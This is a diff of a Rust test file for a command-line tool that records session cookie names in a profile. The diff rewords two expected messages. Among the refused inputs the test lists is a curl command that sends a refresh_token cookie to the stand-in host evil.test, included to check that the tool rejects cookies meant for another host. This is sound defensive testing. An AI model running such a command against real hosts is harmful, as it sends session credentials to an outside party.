@@ -115,7 +115,7 @@ fn pair() {
 
 /// The profile records the names of the pair, and the person is told.
 pub fn expect_names(world: &World, output: &Output) {
-    let text = "the server's cookies are app.access and app.refresh; the profile now says so\n";
+    let text = "the server's cookies are app.access and app.refresh; recorded in the profile\n";
     assert!(output.stderr.contains(text), "{output:?}");
     let shown = world.run(&["profile", "show", "--json"]).expect(0).json();
     assert_eq!(
@@ -136,7 +136,7 @@ fn refused() {
             "curl https://evil.test/ -b 'refresh_token=VALUE_1'",
             "the text has a cookie named refresh_token for evil.test, and none for 127.0.0.1",
         ),
-        ("VALUE_1.VALUE_2", "not a form of cookies that is known"),
+        ("VALUE_1.VALUE_2", "unknown form of cookies"),
         (
             "refresh_token=VALUE_1 \u{e9}",
             "has a value that cannot be sent",
